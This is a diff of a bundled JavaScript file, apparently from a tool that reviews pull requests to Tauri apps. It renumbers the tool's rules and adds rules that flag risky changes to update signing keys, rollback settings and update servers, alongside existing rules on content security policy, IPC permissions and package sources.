   "inline-script",
   "script",
@@ -45488,7 +45907,7 @@ var REMEDY = {
 };
 
 // src/rules/csp/report-collector-added/rule.ts
-var rule12 = {
+var rule33 = {
   id: "csp/report-collector-added",
   title: "Blocked requests are reported to somewhere new",
   judge(change) {
@@ -45503,17 +45922,17 @@ var rule12 = {
     };
   }
 };
-var rule_default12 = rule12;
+var rule_default33 = rule33;
 
 // src/rules/csp/script-allowed/rule.ts
-var rule13 = {
+var rule34 = {
   id: "csp/script-allowed",
   title: "Scripts may be loaded from somewhere new",
   judge(change) {
     const allowed = allowedNewly(change, "script");
     if (!allowed) return void 0;
     return {
-      severity: severityOf(allowed),
+      severity: severityOf5(allowed),
       confidence: "certain",
       title: mayNewly2(allowed, `load scripts ${fromWhere(allowed, "from")}`),
       message: `A script that a page loads can call every command that its window may call. ${whoWrites(allowed)}${alsoInWords(allowed)}`,
@@ -45521,8 +45940,8 @@ var rule13 = {
     };
   }
 };
-var rule_default13 = rule13;
-function severityOf({ extent, targets }) {
+var rule_default34 = rule34;
+function severityOf5({ extent, targets }) {
   if (extent === "host") return targets.some(anyoneMayPublish) ? "high" : "medium";
   if (extent === "app") return "info";
   if (targets.includes("hash")) return "low";
@@ -45540,7 +45959,7 @@ function anyoneMayPublish(target) {
 }
 
 // src/rules/csp/style-allowed/rule.ts
-var rule14 = {
+var rule35 = {
   id: "csp/style-allowed",
   title: "Styles may come from somewhere new",
   judge(change) {
@@ -45560,11 +45979,11 @@ var rule14 = {
     };
   }
 };
-var rule_default14 = rule14;
+var rule_default35 = rule35;
 var WEIGHTS4 = { anywhere: "medium", host: "low", app: "info", none: "low" };
 
 // src/rules/csp/worker-allowed/rule.ts
-var rule15 = {
+var rule36 = {
   id: "csp/worker-allowed",
   title: "Workers may be started from somewhere new",
   judge(change) {
@@ -45579,7 +45998,7 @@ var rule15 = {
     };
   }
 };
-var rule_default15 = rule15;
+var rule_default36 = rule36;
 var WEIGHTS5 = { anywhere: "medium", host: "low", app: "info", none: "low" };
 
 // src/domain/ipc.ts
@@ -45648,8 +46067,8 @@ var POWER = {
 };
 var GETTERS = /\|(?:is_|get_|inner_|outer_|scale_factor|title$|theme$|available_monitors|current_monitor|primary_monitor|name$|version$|tauri_version|identifier$|basename|dirname|extname|join|normalize|resolve)/;
 function powerOf(command2) {
-  const known = Object.hasOwn(POWER, command2) ? POWER[command2] : void 0;
-  return known ?? (GETTERS.test(command2) ? 0 : 1);
+  const known2 = Object.hasOwn(POWER, command2) ? POWER[command2] : void 0;
+  return known2 ?? (GETTERS.test(command2) ? 0 : 1);
 }
 function byPower(a, b) {
   return powerOf(b) - powerOf(a) || (a < b ? -1 : a > b ? 1 : 0);
@@ -45811,7 +46230,7 @@ function whereOf({ platforms }) {
 function exampleOf({ example }) {
   return example === null ? "" : `, for example with ${code(example)}`;
 }
-function severityOf2(change) {
+function severityOf6(change) {
   const steps = ["low", "medium", "high", "critical"];
   const power = powerOf(change.commands.includes(change.witness.command) ? change.witness.command : "*");
   const step = change.reach === "nothing" ? 0 : change.reach === "bounded" ? power - 2 : power - 1;
@@ -45837,7 +46256,7 @@ function removeHint({ permission: permission2, capability }) {
 }
 
 // src/rules/ipc/app-commands-open/rule.ts
-var rule16 = {
+var rule37 = {
   id: "ipc/app-commands-open",
   title: "Every command of the app is open",
   judge(change) {
@@ -45851,7 +46270,7 @@ var rule16 = {
     };
   }
 };
-var rule_default16 = rule16;
+var rule_default37 = rule37;
 function wordsFor({ remote, capability }) {
   if (capability === ALLOWLIST) {
     return {
@@ -45872,13 +46291,13 @@ function wordsFor({ remote, capability }) {
 }
 
 // src/rules/ipc/command-granted/rule.ts
-var rule17 = {
+var rule38 = {
   id: "ipc/command-granted",
   title: "A command is newly callable",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "command-granted") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly ${doingWhat(change)}${whereOf(change)}`,
       message: worthOf(change),
@@ -45886,7 +46305,7 @@ var rule17 = {
     };
   }
 };
-var rule_default17 = rule17;
+var rule_default38 = rule38;
 function remedyFor(change) {
   if (change.reach === "sensitive")
     return `Narrow the scope to what the app needs, or ${removeHint(change)}.`;
@@ -45894,13 +46313,13 @@ function remedyFor(change) {
 }
 
 // src/rules/ipc/deny-removed/rule.ts
-var rule18 = {
+var rule39 = {
   id: "ipc/deny-removed",
   title: "A denial is gone",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "deny-removed") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly call ${commandsOf(change)}${whereOf(change)}${exampleOf(change)}: ${goneOf(change)}`,
       message: `${guardOf(change)} ${worthOf(change)}`,
@@ -45908,7 +46327,7 @@ var rule18 = {
     };
   }
 };
-var rule_default18 = rule18;
+var rule_default39 = rule39;
 function goneOf({ denial }) {
   if (denial === null) return "what denied it is gone";
   return `${code(denial.permission)} of ${grantorOf(denial.capability)} no longer denies it`;
@@ -45918,13 +46337,13 @@ function guardOf({ denial }) {
 }
 
 // src/rules/ipc/meaning-changed/rule.ts
-var rule19 = {
+var rule40 = {
   id: "ipc/meaning-changed",
   title: "The same permission came to mean more",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "meaning-changed") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${code(change.permission)} came to mean more: ${pagesInside(change)} can newly use ${commandsOf(change)}${whereOf(change)}${exampleOf(change)}`,
       message: `${unchanged(change)} did not change; what its permission stands for did. ${worthOf(change)}`,
@@ -45936,16 +46355,16 @@ function unchanged({ at, namedAt }) {
   const isHere = at.path === namedAt.path && at.line === namedAt.line;
   return isHere ? "The capability" : `The capability, at ${code(`${namedAt.path}:${namedAt.line}`)},`;
 }
-var rule_default19 = rule19;
+var rule_default40 = rule40;
 
 // src/rules/ipc/platform-added/rule.ts
-var rule20 = {
+var rule41 = {
   id: "ipc/platform-added",
   title: "A permission holds on more platforms",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "platform-added") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly ${doingWhat(change)}${whereOf(change)}`,
       message: `${absentOf(change)} ${worthOf(change)}`,
@@ -45953,19 +46372,19 @@ var rule20 = {
     };
   }
 };
-var rule_default20 = rule20;
+var rule_default41 = rule41;
 function absentOf({ note: note2, permission: permission2, capability }) {
   return note2 === "permission-only" ? `The permission ${code(permission2)} did not hold there.` : `The capability ${code(capability)} was not part of the app there.`;
 }
 
 // src/rules/ipc/remote-origin-granted/rule.ts
-var rule21 = {
+var rule42 = {
   id: "ipc/remote-origin-granted",
   title: "A remote page may call the app",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "remote-origin-granted") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly ${doingWhat(change)}${whereOf(change)}`,
       message: `${siteOf(change)}, or gets a script into it, can call the app on the user's machine. ${worthOf(change)}`,
@@ -45973,7 +46392,7 @@ var rule21 = {
     };
   }
 };
-var rule_default21 = rule21;
+var rule_default42 = rule42;
 function siteOf({ pages, witness, capability }) {
   if (capability === ALLOWLIST) return "Whoever controls that site";
   const wild = pages.some(
@@ -45983,13 +46402,13 @@ function siteOf({ pages, witness, capability }) {
 }
 
 // src/rules/ipc/scope-widened/rule.ts
-var rule22 = {
+var rule43 = {
   id: "ipc/scope-widened",
   title: "A scope lets more through",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "scope-widened") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly use ${commandsOf(change)} ${withWhat(change)}`,
       message: `${reasonOf5(change)}${worthOf(change)}`,
@@ -45997,7 +46416,7 @@ var rule22 = {
     };
   }
 };
-var rule_default22 = rule22;
+var rule_default43 = rule43;
 function withWhat(change) {
   const where = whereOf(change);
   if (change.note === "entry-gone") return `with anything${where}`;
@@ -46032,13 +46451,13 @@ function remedyFor2({ note: note2, permission: permission2, capability }) {
 }
 
 // src/rules/ipc/window-added/rule.ts
-var rule23 = {
+var rule44 = {
   id: "ipc/window-added",
   title: "A capability holds for more windows",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "window-added") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly ${doingWhat(change)}${whereOf(change)}`,
       message: `Everything that ${grantorOf(change.capability)} grants now holds there too. ${worthOf(change)}`,
@@ -46046,14 +46465,14 @@ var rule23 = {
     };
   }
 };
-var rule_default23 = rule23;
+var rule_default44 = rule44;
 function remedyFor3({ note: note2, capability }) {
   if (note2 === "own-pages") return 'If only the site calls these, put `"local": false` back.';
   return capability === ALLOWLIST ? "List only the windows in which the site has to call the app." : "Give them a capability of their own with only what they call.";
 }
 
 // src/rules/packages/checksum-changed/rule.ts
-var rule24 = {
+var rule45 = {
   id: "packages/checksum-changed",
   title: "The same version is other bytes",
   judge(change) {
@@ -46078,10 +46497,10 @@ var rule24 = {
     };
   }
 };
-var rule_default24 = rule24;
+var rule_default45 = rule45;
 
 // src/rules/packages/links-added/rule.ts
-var rule25 = {
+var rule46 = {
   id: "packages/links-added",
   title: "A crate newly links a native library",
   judge(change) {
@@ -46096,10 +46515,10 @@ var rule25 = {
     };
   }
 };
-var rule_default25 = rule25;
+var rule_default46 = rule46;
 
 // src/rules/packages/package-added/rule.ts
-var rule26 = {
+var rule47 = {
   id: "packages/package-added",
   title: "Packages are new",
   judge(change) {
@@ -46116,10 +46535,10 @@ var rule26 = {
     };
   }
 };
-var rule_default26 = rule26;
+var rule_default47 = rule47;
 
 // src/rules/packages/plugin-added/rule.ts
-var rule27 = {
+var rule48 = {
   id: "packages/plugin-added",
   title: "A Tauri plugin is new",
   judge(change) {
@@ -46134,10 +46553,10 @@ var rule27 = {
     };
   }
 };
-var rule_default27 = rule27;
+var rule_default48 = rule48;
 
 // src/rules/packages/source-changed/rule.ts
-var rule28 = {
+var rule49 = {
   id: "packages/source-changed",
   title: "A package comes from somebody else",
   judge(change) {
@@ -46145,7 +46564,7 @@ var rule28 = {
     const isNew2 = change.from === null;
     const verb = change.packages.length === 1 ? "comes" : "come";
     return {
-      severity: severityOf3(change),
+      severity: severityOf7(change),
       confidence: "certain",
       title: `${packagesInWords(change)} newly ${verb} from ${addressOf(change)}`,
       message: `${isNew2 ? "Nothing of the app came from there before" : "Base takes it from elsewhere"}: its owner now decides what code is built into the app under that name.${wayInWords(change)}`,
@@ -46153,9 +46572,9 @@ var rule28 = {
     };
   }
 };
-var rule_default28 = rule28;
+var rule_default49 = rule49;
 var TAURI = "git https://github.com/tauri-apps/";
-function severityOf3({ witness }) {
+function severityOf7({ witness }) {
   const source = sourceOf(witness);
   if (source === "registry") return "low";
   return source.startsWith(TAURI) ? "medium" : "high";
@@ -46169,6 +46588,86 @@ function addressOf({ witness, ecosystem, owners }) {
   if (source === "registry") return ecosystem === "cargo" ? "crates.io" : "the npm registry";
   return code(source.slice(source.indexOf(" ") + 1).replace(/[?#].*$/s, ""));
 }
+
+// src/rules/updates/key-trusted/rule.ts
+var rule50 = {
+  id: "updates/key-trusted",
+  title: "Another key signs the app's updates",
+  judge(change) {
+    const found2 = onLever(change, "key-trusted");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, found2.before.length === 0 ? "high" : "critical"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The signature is the only thing that is checked of an update: the holder of this key can ship code to everyone who has the app.",
+      remedy: "Confirm the key with the person who keeps it, by another way than this pull request. Old installations need one more update that the old key signed."
+    };
+  }
+};
+var rule_default50 = rule50;
+
+// src/rules/updates/rollback-allowed/rule.ts
+var rule51 = {
+  id: "updates/rollback-allowed",
+  title: "An old release can be installed as an update",
+  judge(change) {
+    const found2 = onLever(change, "rollback-allowed");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, found2.extent.endsWith(BY_PAGE) ? "low" : "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Old releases carry valid signatures, and the server's answer isn't signed. Who controls that answer can bring back a hole that was closed long ago.",
+      remedy: "Set `requireSignedVersion` to `true` and leave `allowDowngrades` away, with version 2.12 or later of the updater."
+    };
+  }
+};
+var rule_default51 = rule51;
+var BY_PAGE = ": asked by a page";
+
+// src/rules/updates/source-added/rule.ts
+var rule52 = {
+  id: "updates/source-added",
+  title: "Updates are announced from another place",
+  judge(change) {
+    const found2 = onLever(change, "source-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, severityOf8(found2)),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The answer isn't signed: the server can keep an update from people, or name an old release that is signed. The first endpoint that answers is the one that counts.",
+      remedy: "Use only servers that you control, over HTTPS, and set `requireSignedVersion`."
+    };
+  }
+};
+var rule_default52 = rule52;
+function severityOf8({ extent, before }) {
+  const host = hostOf(extent);
+  return host !== void 0 && before.some((known2) => hostOf(known2) === host) ? "medium" : "high";
+}
+function hostOf(url) {
+  return /^https:\/\/([^/?#]+)/i.exec(url)?.[1];
+}
+
+// src/rules/updates/transport-unchecked/rule.ts
+var rule53 = {
+  id: "updates/transport-unchecked",
+  title: "The way to the update server is unchecked",
+  judge(change) {
+    const found2 = onLever(change, "transport-unchecked");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Anyone on the same network can then answer for the server: keep updates from people, or offer an old release that is signed.",
+      remedy: "Remove the setting, and give the server a certificate that systems trust."
+    };
+  }
+};
+var rule_default53 = rule53;
 
 // src/rules/index.ts
 var rules = [
@@ -46199,7 +46698,32 @@ var rules = [
   rule_default25,
   rule_default26,
   rule_default27,
-  rule_default28
+  rule_default28,
+  rule_default29,
+  rule_default30,
+  rule_default31,
+  rule_default32,
+  rule_default33,
+  rule_default34,
+  rule_default35,
+  rule_default36,
+  rule_default37,
+  rule_default38,
+  rule_default39,
+  rule_default40,
+  rule_default41,
+  rule_default42,
+  rule_default43,
+  rule_default44,
+  rule_default45,
+  rule_default46,
+  rule_default47,
+  rule_default48,
+  rule_default49,
+  rule_default50,
+  rule_default51,
+  rule_default52,
+  rule_default53
 ];
 
 // src/adapters/github/fitted.ts
@@ -46608,11 +47132,11 @@ function blobReader(github, repository, cache) {
   };
 }
 async function fromCache2(entries, cache) {
-  const known = await concurrently(entries, READS_AT_ONCE, async ({ id }) => {
+  const known2 = await concurrently(entries, READS_AT_ONCE, async ({ id }) => {
     const bytes = await cache.get(keyOf(id));
     return bytes !== void 0 && isContentOf(id, bytes) ? [id, bytes] : void 0;
   });
-  return new Map(known.filter((each) => each !== void 0));
+  return new Map(known2.filter((each) => each !== void 0));
 }
 function keyOf(id) {
   return `blob ${id}`;
@@ -46672,8 +47196,8 @@ var WALK_LIMITS = {
 };
 async function treeItems(github, repository, sha, cache) {
   const key = `tree ${repository.owner}/${repository.repo} ${sha}`;
-  const known = await cache.get(key);
-  if (known !== void 0) return { items: JSON.parse(Buffer.from(known).toString("utf8")), unseen: [] };
+  const known2 = await cache.get(key);
+  if (known2 !== void 0) return { items: JSON.parse(Buffer.from(known2).toString("utf8")), unseen: [] };
   const whole = await requestTree(github, repository, sha, "recursive");
   const found2 = whole.truncated ? await walk(github, repository, sha) : { ...whole, unseen: [] };
   if (found2.unseen.length === 0) await cache.put(key, Buffer.from(JSON.stringify(found2.items)));
@@ -46810,7 +47334,7 @@ var SettingsReader = class {
       return settings;
     }
     for (const [id, { key, value: setting }] of value.entries) {
-      if (!rules.some((rule29) => rule29.id === id)) this.#note(key, noRule(id));
+      if (!rules.some((rule54) => rule54.id === id)) this.#note(key, noRule(id));
       const wanted = this.#oneOf(id, RULE_SETTINGS, setting);
       if (wanted !== void 0) settings.set(id, wanted);
     }
@@ -46832,7 +47356,7 @@ var SETTINGS = `${code("fail-on")}, ${code("incomplete")} and ${code("rules")}`;
 var EXAMPLE = "ipc/command-granted: high";
 function noRule(id) {
   const last2 = id.slice(id.lastIndexOf("/") + 1);
-  const near = rules.filter((rule29) => last2 !== "" && rule29.id.endsWith(`/${last2}`)).map((rule29) => code(rule29.id));
+  const near = rules.filter((rule54) => last2 !== "" && rule54.id.endsWith(`/${last2}`)).map((rule54) => code(rule54.id));
   const hint = near.length > 0 ? `did you mean ${near.join(" or ")}?` : `docs/rules.md lists them.`;
   return `There is no rule ${code(id)}; ${hint}`;
 }
@@ -46888,8 +47412,8 @@ function discoverApps(paths3) {
     const rank2 = rankOf(path);
     if (rank2 < 0) continue;
     const root = folderOf(path);
-    const known = configOf.get(root);
-    if (known === void 0 || rank2 < rankOf(known)) configOf.set(root, path);
+    const known2 = configOf.get(root);
+    if (known2 === void 0 || rank2 < rankOf(known2)) configOf.set(root, path);
   }
   return [...configOf].map(([root, config]) => ({ root, config })).sort((a, b) => a.root < b.root ? -1 : 1);
 }
@@ -47106,16 +47630,16 @@ function indexOf(packages) {
 }
 function file(index, key, each) {
   const own = each.source === "path" ? each : void 0;
-  const known = index.get(key);
-  if (known === void 0) {
+  const known2 = index.get(key);
+  if (known2 === void 0) {
     index.set(key, { first: each, count: 1, own, owns: own === void 0 ? 0 : 1, oneVersion: true });
     return;
   }
-  known.count += 1;
-  known.oneVersion &&= known.first.version === each.version;
+  known2.count += 1;
+  known2.oneVersion &&= known2.first.version === each.version;
   if (own === void 0) return;
-  known.own = own;
-  known.owns += 1;
+  known2.own = own;
+  known2.owns += 1;
 }
 function keyOf2(parts) {
   return JSON.stringify(parts);
@@ -47184,14 +47708,14 @@ function pathDependency(root, files, manifest2, crate) {
   return null;
 }
 function appPackage(lock, name) {
-  const candidates = name === void 0 ? [] : lock.byName.get(name) ?? [];
-  return candidates.find((candidate) => candidate.source === "path");
+  const candidates2 = name === void 0 ? [] : lock.byName.get(name) ?? [];
+  return candidates2.find((candidate) => candidate.source === "path");
 }
 function lockedVersion(lock, app, crate) {
   const direct = app?.dependencies.find((dependency) => dependency.target?.name === crate)?.target;
   if (direct !== void 0) return direct;
-  const [...candidates] = lock.byName.get(crate) ?? [];
-  return candidates.sort((a, b) => byVersion(b.version, a.version))[0];
+  const [...candidates2] = lock.byName.get(crate) ?? [];
+  return candidates2.sort((a, b) => byVersion(b.version, a.version))[0];
 }
 function byVersion(a, b) {
   const [left, right] = [(0, import_semver.parse)(a), (0, import_semver.parse)(b)];
@@ -47317,16 +47841,16 @@ function lockOf(project) {
 }
 function neededCrates(base, head) {
   const inBase = new Set(base.map(identityOf));
-  const known = Map.groupBy(base, (crate) => crate.name);
-  const added = Map.groupBy(
+  const known2 = Map.groupBy(base, (crate) => crate.name);
+  const added2 = Map.groupBy(
     head.filter((crate) => !inBase.has(identityOf(crate))),
     (crate) => crate.name
   );
-  const fresh = [...added].filter(([name]) => !known.has(name));
-  const moved = [...added].filter(([name]) => known.has(name));
+  const fresh = [...added2].filter(([name]) => !known2.has(name));
+  const moved = [...added2].filter(([name]) => known2.has(name));
   return [
-    ...fresh.flatMap(([, crates]) => crates.flatMap(needOf)),
-    ...moved.flatMap(([name, crates]) => [...crates, ...known.get(name) ?? []].flatMap(needOf))
+    ...fresh.flatMap(([, crates2]) => crates2.flatMap(needOf)),
+    ...moved.flatMap(([name, crates2]) => [...crates2, ...known2.get(name) ?? []].flatMap(needOf))
   ];
 }
 function identityOf(crate) {
@@ -47672,8 +48196,8 @@ function secureByDefault(security) {
   return asBoolean(configKey(security, "dangerousUseHttpScheme")) !== true;
 }
 function secureWindows(app) {
-  const windows2 = itemsOf(member(app, "windows"));
-  const secure = windows2.map((window2) => asBoolean(configKey(window2, "useHttpsScheme")) === true);
+  const windows3 = itemsOf(member(app, "windows"));
+  const secure = windows3.map((window2) => asBoolean(configKey(window2, "useHttpsScheme")) === true);
   return [...new Set(secure.length === 0 ? [false] : secure)];
 }
 
@@ -47695,11 +48219,11 @@ function readPlatform(project, platform2) {
   const settings = cspSettings(project.config(platform2), project.major);
   const page = settings.server === void 0 ? frontPage(project, settings.dist) : void 0;
   const directives = settings.csp === void 0 ? [] : directivesOf(settings.csp);
-  const { headers, own, absence, gaps: gaps2 } = sentByTauri(settings, directives, page);
+  const { headers: headers2, own, absence, gaps: gaps2 } = sentByTauri(settings, directives, page);
   const places = placesOf(settings, directives, page);
   const metas = page?.marks.metaPolicies.map((meta) => meta.content) ?? [];
   const origins = originsOn(platform2, settings.server, settings.secure);
-  const grants = headers.flatMap((sent) => {
+  const grants = headers2.flatMap((sent) => {
     const policies = [...sent === null ? [] : [sent], ...metas];
     const header = policies.length === 0 ? null : policies.join(", ");
     const missing = header === null ? absence : null;
@@ -47714,12 +48238,12 @@ function sentByTauri(settings, directives, page) {
   if (settings.server !== void 0) return nothingSent("remote-pages");
   if (settings.csp === void 0) return nothingSent("not-configured");
   const hasStyle = page?.marks.hasStyle ?? false;
-  const { headers, own, complete: complete2 } = effectivePolicy(directives, settings, hasStyle);
-  const text = headers.join("");
+  const { headers: headers2, own, complete: complete2 } = effectivePolicy(directives, settings, hasStyle);
+  const text = headers2.join("");
   if (/[^\0-\x7f]/.test(text)) return nothingSent("not-ascii");
   const at = settings.nearest.at;
   if (/[^\t -~]/.test(text)) return { headers: [], own: [], absence: null, gaps: [pagesFail(at)] };
-  return { headers, own, absence: null, gaps: complete2 ? [] : [tooManyOrders(at)] };
+  return { headers: headers2, own, absence: null, gaps: complete2 ? [] : [tooManyOrders(at)] };
 }
 function nothingSent(absence) {
   return { headers: [null], own: [], absence, gaps: [] };
@@ -47831,7 +48355,7 @@ function packageAt(location2, { key, value }) {
   const version = member(value, "version");
   const resolved = member(value, "resolved");
   const integrity = member(value, "integrity");
-  const link = asBoolean(member(value, "link")) === true;
+  const link2 = asBoolean(member(value, "link")) === true;
   const name = asString(member(value, "name")) ?? nameIn(location2);
   const installed = isInstalled(location2);
   return {
@@ -47842,12 +48366,12 @@ function packageAt(location2, { key, value }) {
       name,
       version: asString(version) ?? "",
       resolved: asString(resolved),
-      local: link || !installed,
+      local: link2 || !installed,
       bundled: asBoolean(member(value, "inBundle")) === true
     }),
     integrity: asString(integrity) ?? null,
     hasInstallScript: asBoolean(member(value, "hasInstallScript")) === true,
-    target: link ? asString(resolved) ?? "" : null,
+    target: link2 ? asString(resolved) ?? "" : null,
     dependencies: askedFor(value, installed),
     at: key,
     lines: {
@@ -48036,6 +48560,15 @@ function parsed2(file2) {
   return result?.ok ? result.value : void 0;
 }
 
+// src/tauri/rust-files.ts
+function isRustOfApp(path, root) {
+  return path.endsWith(".rs") && below2(root, path)?.startsWith("src/") === true;
+}
+function isEntryPoint(path, root) {
+  const inside = below2(root, path);
+  return inside === "src/main.rs" || inside === "src/lib.rs";
+}
+
 // src/tauri/versions.ts
 var import_semver3 = __toESM(require_semver2(), 1);
 function isTauri3(project) {
@@ -48052,10 +48585,10 @@ function isBefore(version, limit) {
 function readCapabilityFile(root) {
   const listed = member(root, "capabilities");
   const items = root.kind === "array" ? root.items : listed?.kind === "array" ? listed.items : [root];
-  const read2 = items.map(readCapability);
+  const read3 = items.map(readCapability);
   return {
-    capabilities: read2.flatMap(({ capability }) => capability ?? []),
-    gaps: read2.flatMap(({ gaps: gaps2 }) => gaps2)
+    capabilities: read3.flatMap(({ capability }) => capability ?? []),
+    gaps: read3.flatMap(({ gaps: gaps2 }) => gaps2)
   };
 }
 function readCapability(value) {
@@ -48069,7 +48602,7 @@ function readCapability(value) {
   const listed = member(value, "permissions");
   if (identifier === void 0) wrong(value.at, "it has no identifier");
   if (listed?.kind !== "array") wrong(listed?.at ?? value.at, "it has no list of permissions");
-  const windows2 = patterns(member(value, "windows"), "windows", wrong);
+  const windows3 = patterns(member(value, "windows"), "windows", wrong);
   const webviews = patterns(member(value, "webviews"), "webviews", wrong);
   const remote = remoteUrls(member(value, "remote"), wrong);
   const platforms = platformsFrom(member(value, "platforms"), wrong);
@@ -48086,7 +48619,7 @@ function readCapability(value) {
       at: member(value, "identifier")?.at ?? value.at,
       local: local?.kind === "boolean" ? local.value : true,
       remote,
-      windows: windows2,
+      windows: windows3,
       webviews,
       permissions,
       platforms,
@@ -48309,12 +48842,12 @@ var MAX_CHARACTER = 1114111;
 function languageOf(source) {
   return bounded(() => tabled(automatonOf(source)));
 }
-function sequenceOf(sources2, end) {
+function sequenceOf(sources3, end) {
   return bounded(() => {
     const factory = new import_refa.NFA.LimitedNodeFactory(MAX_NODES);
     const [word, ending] = [automatonOf(`[^${end}]*`), automatonOf(end)];
     const whole = automatonOf("").copy(factory);
-    for (const source of sources2) {
+    for (const source of sources3) {
       whole.append(import_refa.NFA.fromIntersection(automatonOf(source), word, factory), factory);
       whole.append(ending, factory);
     }
@@ -48527,13 +49060,13 @@ function parseClass(characters, open2) {
 // src/language/remembered.ts
 var MOST = 4096;
 function remembered(answer) {
-  const known = /* @__PURE__ */ new Map();
+  const known2 = /* @__PURE__ */ new Map();
   return (question) => {
-    const before = known.get(question);
-    if (before !== void 0 || known.has(question)) return before;
-    if (known.size >= MOST) known.clear();
+    const before = known2.get(question);
+    if (before !== void 0 || known2.has(question)) return before;
+    if (known2.size >= MOST) known2.clear();
     const now = answer(question);
-    known.set(question, now);
+    known2.set(question, now);
     return now;
   };
 }
@@ -48554,7 +49087,7 @@ function builtCapability(source, made, place) {
   const reader = new Arguments(source, place);
   const [identifier] = reader.texts(made);
   if (identifier === void 0) return void 0;
-  const windows2 = [];
+  const windows3 = [];
   const webviews = [];
   const remote = [];
   const permissions = [];
@@ -48564,7 +49097,7 @@ function builtCapability(source, made, place) {
     switch (call.name) {
       case "window":
       case "windows":
-        windows2.push(...reader.texts(call));
+        windows3.push(...reader.texts(call));
         break;
       case "webview":
       case "webviews":
@@ -48596,7 +49129,7 @@ function builtCapability(source, made, place) {
     at: identifier.at,
     local,
     remote,
-    windows: windows2,
+    windows: windows3,
     webviews,
     permissions,
     platforms: platforms ?? EVERY_PLATFORM,
@@ -48626,8 +49159,8 @@ var Arguments = class {
   }
   platforms({ inside }) {
     const named2 = [...this.#text(inside).matchAll(/\bTarget\s*::\s*(\w+)/g)].map(([, name]) => name);
-    const known = named2.map((name) => PLATFORMS.find((each) => each.toLowerCase() === name?.toLowerCase()));
-    return known.length > 0 && known.every((each) => each !== void 0) ? platformSet(...known) : this.#computed(EVERY_PLATFORM);
+    const known2 = named2.map((name) => PLATFORMS.find((each) => each.toLowerCase() === name?.toLowerCase()));
+    return known2.length > 0 && known2.every((each) => each !== void 0) ? platformSet(...known2) : this.#computed(EVERY_PLATFORM);
   }
   /** A permission with lists of texts for its scope: `permission_scoped("fs:scope", vec!["/a"], vec![])`. */
   scoped({ inside }) {
@@ -48654,13 +49187,6 @@ var Arguments = class {
 };
 
 // src/readers/tauri-acl/rust-capabilities.ts
-function isEntryPoint(path, root) {
-  const inside = below2(root, path);
-  return inside === "src/main.rs" || inside === "src/lib.rs";
-}
-function isRustOfApp(path, root) {
-  return path.endsWith(".rs") && below2(root, path)?.startsWith("src/") === true;
-}
 function rustCapabilities(project) {
   const { root } = project.location;
   const found2 = [...project.files.values()].filter(({ path }) => isRustOfApp(path, root)).map((file2) => new RustFile(file2, root).read());
@@ -48746,9 +49272,9 @@ var RustFile = class {
       this.#gaps.push(gapAt(at, "unparsed", message));
       return;
     }
-    const read2 = readCapabilityFile(parsed4.value);
-    this.#capabilities.push(...read2.capabilities);
-    this.#gaps.push(...read2.gaps);
+    const read3 = readCapabilityFile(parsed4.value);
+    this.#capabilities.push(...read3.capabilities);
+    this.#gaps.push(...read3.gaps);
   }
   /** What it adds may depend on anything. Where base has the very same file, it added the same. */
   #computed({ at, inside }) {
@@ -48832,13 +49358,13 @@ function activeCapabilities(project, script) {
   const found2 = capabilityFiles(project, script);
   const gaps2 = [...found2.gaps];
   const files = capabilitiesIn(found2.files, gaps2);
-  const added = rustCapabilities(project);
-  gaps2.push(...added.gaps);
+  const added2 = rustCapabilities(project);
+  gaps2.push(...added2.gaps);
   const named2 = capabilitiesIn(
-    namedFiles(project, [...script.capabilityFiles, ...added.atBuild], gaps2),
+    namedFiles(project, [...script.capabilityFiles, ...added2.atBuild], gaps2),
     gaps2
   );
-  const atRunTime = capabilitiesIn(namedFiles(project, added.atRunTime, gaps2), gaps2);
+  const atRunTime = capabilitiesIn(namedFiles(project, added2.atRunTime, gaps2), gaps2);
   const byIdentity = /* @__PURE__ */ new Map();
   const inlineRead = /* @__PURE__ */ new Map();
   const complained = /* @__PURE__ */ new Set();
@@ -48851,7 +49377,7 @@ function activeCapabilities(project, script) {
     }
   }
   const sorted = [...byIdentity].map(([capability, platforms]) => ({ capability, platforms: platforms & capability.platforms })).filter(({ platforms }) => platforms !== NO_PLATFORM).sort((a, b) => compareBytes(a.capability.identifier, b.capability.identifier));
-  const last2 = [...atRunTime.values(), ...added.capabilities].map((capability) => ({
+  const last2 = [...atRunTime.values(), ...added2.capabilities].map((capability) => ({
     capability,
     platforms: capability.platforms
   }));
@@ -48878,9 +49404,9 @@ function activeCapabilities(project, script) {
   }
   function inline(item) {
     if (!inlineRead.has(item)) {
-      const read2 = readCapability(item);
-      for (const gap of read2.gaps) gaps2.push(gap);
-      inlineRead.set(item, read2.capability);
+      const read3 = readCapability(item);
+      for (const gap of read3.gaps) gaps2.push(gap);
+      inlineRead.set(item, read3.capability);
     }
     return inlineRead.get(item);
   }
